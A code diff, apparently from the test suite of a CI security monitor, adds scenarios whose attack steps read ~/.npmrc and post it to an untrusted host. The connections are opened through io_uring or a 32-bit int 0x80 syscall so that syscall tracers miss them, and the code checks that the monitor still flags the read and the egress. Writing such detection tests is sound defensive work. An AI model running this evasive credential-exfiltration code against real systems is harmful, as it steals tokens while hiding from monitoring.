@@ -434,7 +434,103 @@ echo 'app()' > \"$GITHUB_WORKSPACE/dist/index.js\"
                 &[("build", &fast_open_post("REGISTRY", "b'ping'"))],
             ),
         },
+        Scenario {
+            name: "io-uring-exfiltration",
+            threat: "a connection no connect(2) made: io_uring's IORING_OP_CONNECT opens it (a syscall tracer sees only io_uring_enter) and ~/.npmrc goes out on it",
+            needs: &["python3"],
+            kills_agent: false,
+            responses: false,
+            expect: &["credential-read .npmrc", "unexpected-egress"],
+            attack: job(
+                "a step connects a TCP socket to the untrusted host with IORING_OP_CONNECT and posts ~/.npmrc on it",
+                &[("build", &routed_post(Route::IoUring, "UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
+            ),
+            twin: job(
+                "a step connects to the allowed registry host the same way and posts a few bytes",
+                &[("build", &routed_post(Route::IoUring, "REGISTRY", "b'ping'"))],
+            ),
+        },
+        Scenario {
+            name: "compat-syscall-exfiltration",
+            threat: "a connection made through the 32-bit syscall entry (int 0x80 from a 64-bit process), which the 64-bit syscall tracepoints do not report, and ~/.npmrc sent on it",
+            needs: &["python3", COMPAT_SYSCALLS],
+            kills_agent: false,
+            responses: false,
+            expect: &["credential-read .npmrc", "unexpected-egress"],
+            attack: job(
+                "a step connects a TCP socket to the untrusted host with the 32-bit connect syscall (int 0x80) and posts ~/.npmrc on it",
+                &[("build", &routed_post(Route::Compat, "UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
+            ),
+            twin: job(
+                "a step connects to the allowed registry host the same way and posts a few bytes",
+                &[("build", &routed_post(Route::Compat, "REGISTRY", "b'ping'"))],
+            ),
+        },
     ]
+}
+
+/// A `needs` entry that is not a program: the x86-64 kernel's 32-bit syscall entry (`int
+/// 0x80` from a 64-bit process), there on x86-64 unless the kernel was built or booted without
+/// IA32 emulation.
+pub const COMPAT_SYSCALLS: &str = "x86-64 32-bit syscall entry";
+
+/// How `routed_post` opens its connection.
+#[derive(Clone, Copy)]
+enum Route {
+    /// An `IORING_OP_CONNECT` submitted on an io_uring set up by hand (no liburing needed).
+    IoUring,
+    /// `connect` (i386 number 362) through `int 0x80`, from machine code on a page below 4 GiB
+    /// (the 32-bit entry takes 32-bit pointers).
+    Compat,
+}
+
+/// A step that connects a fresh TCP socket to the host and port of the URL in variable
+/// `url_var` by `route` (never with `connect(2)`), posts `body` (a Python expression giving
+/// bytes) over HTTP on it and reads the reply. It fails, saying why, if the route is closed.
+fn routed_post(route: Route, url_var: &str, body: &str) -> String {
+    let connect = match route {
+        Route::IoUring => {
+            r#"libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+params = ctypes.create_string_buffer(120)
+ring = libc.syscall(425, 4, params)
+if ring < 0:
+    raise SystemExit('io_uring_setup refused (errno %d): the io_uring route is closed here' % ctypes.get_errno())
+sq_entries, cq_entries = struct.unpack_from('II', params, 0)
+sq_head, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from('7I', params, 40)
+cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from('6I', params, 80)
+sq = mmap.mmap(ring, sq_array + sq_entries * 4, offset=0)
+cq = mmap.mmap(ring, cqes + cq_entries * 16, offset=0x8000000)
+entries = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
+addr = ctypes.create_string_buffer(sockaddr, 16)
+tail = struct.unpack_from('I', sq, sq_tail)[0]
+i = tail & sq_mask
+entries[i * 64:(i + 1) * 64] = struct.pack('=BBHiQQIIQ', 16, 0, 0, s.fileno(), 16, ctypes.addressof(addr), 0, 0, 7).ljust(64, bytes(1))
+struct.pack_into('I', sq, sq_array + i * 4, i)
+struct.pack_into('I', sq, sq_tail, tail + 1)
+if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:
+    raise SystemExit('io_uring_enter failed (errno %d)' % ctypes.get_errno())
+head = struct.unpack_from('I', cq, cq_head)[0]
+res = struct.unpack_from('=QiI', cq, cqes + (head & cq_mask) * 16)[1]
+"#
+        }
+        Route::Compat => {
+            r#"page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
+# push rbx; mov eax, 362; mov ebx, edi; mov ecx, esi; int 0x80; pop rbx; ret
+code = bytes([0x53, 0xb8, 0x6a, 0x01, 0x00, 0x00, 0x89, 0xfb, 0x89, 0xf1, 0xcd, 0x80, 0x5b, 0xc3])
+page[0:len(code)] = code
+page[256:272] = sockaddr
+base = ctypes.addressof(ctypes.c_char.from_buffer(page))
+if base >= 1 << 32:
+    raise SystemExit('no memory below 4 GiB for the 32-bit call')
+connect32 = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint32, ctypes.c_int)(base)
+res = connect32(s.fileno(), base + 256, 16)
+"#
+        }
+    };
+    format!(
+        "python3 - <<'PY'\nimport ctypes, mmap, os, socket, struct, urllib.parse\np = urllib.parse.urlparse(os.environ['{url_var}'])\nbody = {body}\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\nsockaddr = struct.pack('=H', socket.AF_INET) + struct.pack('>H', p.port) + socket.inet_aton(p.hostname) + bytes(8)\n{connect}if res < 0:\n    raise SystemExit('connect failed: ' + os.strerror(-res))\ns.sendall(b'POST /x HTTP/1.1\\r\\nHost: h\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)\nprint(s.recv(64)[:12])\nPY\n"
+    )
 }
 
 /// A step that posts `body` (a Python expression giving bytes) over HTTP to the host and port
